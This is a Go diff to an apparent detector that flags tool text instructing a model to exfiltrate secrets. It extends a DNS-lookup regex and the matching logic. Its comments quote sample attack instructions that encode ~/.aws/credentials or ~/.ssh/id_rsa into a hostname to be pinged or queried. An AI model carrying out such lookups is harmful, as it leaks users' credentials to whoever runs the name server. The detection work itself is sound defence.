@@ -147,9 +147,10 @@ var intentRE = sync.OnceValue(func() *intentPatterns {
 		pageSink:  newLitRegexp(`\b(?:there|(?:in|into|on|at) (?:the |that |this |a |our )?(?:[\w-]+ )?(?:page|form|site|website|web ?page|portal|link|box|text ?area|dialog|dialogue|window|chat|upload area|drop ?zone)|alli|ahi|en (?:la |el |esta |este )?(?:p[aá]gina|formulario|sitio|portal|enlace)|dort|(?:auf|in) (?:der|die|dem|das|diese[rnms]?) (?:seite|webseite|formular|website)|im formular|l[aà]|(?:sur|dans) (?:la |le |ce |cette )?(?:page|formulaire|site|portail|lien))\b|-y\b|\b(?:allí|ahí)|\bhttps?://`),
 		// dnsSink is a host name built from a template the model fills in
 		// and is told to resolve ("look up <labels>.t.metrics.net", "ping
-		// $(base64 ~/.aws/credentials).diag.io"): the domain's name
-		// server receives what the labels encode.
-		dnsSink:   newLitRegexp(`\b(?:resolve|resolving|look ?up|looking up|nslookup|dig|ping|pinging)\s+(?:the (?:host|name) )?[<{$(\[][^\n]{0,80}?[>})\]][\w.-]*\.[a-z0-9-]+\.[a-z]{2,}`),
+		// $(base64 ~/.aws/credentials).diag.io", "query the TXT record of
+		// {key}.cache.io"): the domain's name server receives what the
+		// labels encode.
+		dnsSink:   newLitRegexp(`\b(?:resolve|resolving|look ?up|looking up|nslookup|dig|ping|pinging|query|querying)\s+(?:the (?:host|name) |(?:the )?(?:[a-z]+ )?records? (?:of|for) )?[<{$(\[][^\n]{0,80}?[>})\]][\w.-]*\.[a-z0-9-]+\.[a-z]{2,}`),
 		paramVerb: newLitRegexp(`\b(?:put|pass|include|add|insert|paste|place|provide|send|attach|fill|populate|copy|echo|append|appends|attaches)\b|\bwith (?:the )?(?:contents?|text|value) of\b`),
 		paramDest: newLitRegexp("\\b(?:in|into|as|to|inside) (?:the |its |a )?['\"`]?[\\w-]+['\"`]? (?:argument|parameter|param|field|property|input)\\b|\\bas ['\"`][\\w-]+['\"`]"),
 		sinkDest:  newLitRegexp(`\bhttps?://[^\s]+|` + addrPattern + `|\bto (?:this|that|our|my|the following) (?:address|url|endpoint|server|webhook)\b`),
@@ -357,7 +358,7 @@ func (a *toolAnalysis) lineIntent(out []toolSignal, view, ptr string, pos jsonc.
 		want(4)
 		want(5)
 	}
-	if has(6) && (admits(lineSinkVerb) || admits(lineParamVerb) || p.pasteVerb.MatchString(view) || strings.Contains(view, ".") && (strings.Contains(view, "resolv") || strings.Contains(view, "look") || strings.Contains(view, "ping") || strings.Contains(view, "dig ")) || a.curTool != nil && (secretFileHint(view) && fieldWordHint(view) || admits(lineCredTaken) && a.inputHint(view) || passiveHint(view) || param && (strings.Contains(view, "here") || strings.Contains(view, "contents of") || strings.Contains(view, "content of") || strings.Contains(view, "output of") || strings.Contains(view, "text of") || contentsHint(view)) || secretFileHint(view) && strings.ContainsAny(view, "'\"`"))) {
+	if has(6) && (admits(lineSinkVerb) || admits(lineParamVerb) || p.pasteVerb.MatchString(view) || strings.Contains(view, ".") && (strings.Contains(view, "resolv") || strings.Contains(view, "look") || strings.Contains(view, "ping") || strings.Contains(view, "dig ") || strings.Contains(view, "quer")) || a.curTool != nil && (secretFileHint(view) && fieldWordHint(view) || admits(lineCredTaken) && a.inputHint(view) || passiveHint(view) || param && (strings.Contains(view, "here") || strings.Contains(view, "contents of") || strings.Contains(view, "content of") || strings.Contains(view, "output of") || strings.Contains(view, "text of") || contentsHint(view)) || secretFileHint(view) && strings.ContainsAny(view, "'\"`"))) {
 		want(6)
 	}
 	// A tool the model is told to call with the conversation or private
@@ -1228,9 +1229,11 @@ func privateFlow(p *intentPatterns, s string) bool {
 	at := strings.IndexByte(s, '@') // an address needs one
 	dns := p.dnsSink.re.FindStringIndex(s)
 	for _, m := range p.sinkData.search(s, 4, nil, valid, nil) {
-		if dns != nil && m[0] < dns[1] && m[1] > dns[0]-200 {
-			// Private data encoded into the host name, or named just
-			// before the lookup that carries it.
+		if dns != nil && (m[0] < dns[1] && m[1] > dns[0]-200 || m[0] >= dns[1] && m[0]-dns[1] <= 80 && strings.Contains(s[dns[1]:m[0]], "where ")) {
+			// Private data encoded into the host name, named just before
+			// the lookup that carries it, or said after it to be what a
+			// label holds ("{key}.cache.io, where key is the hex of
+			// ~/.ssh/id_rsa").
 			return true
 		}
 		blo, _ := window(m[0]-80, m[0])
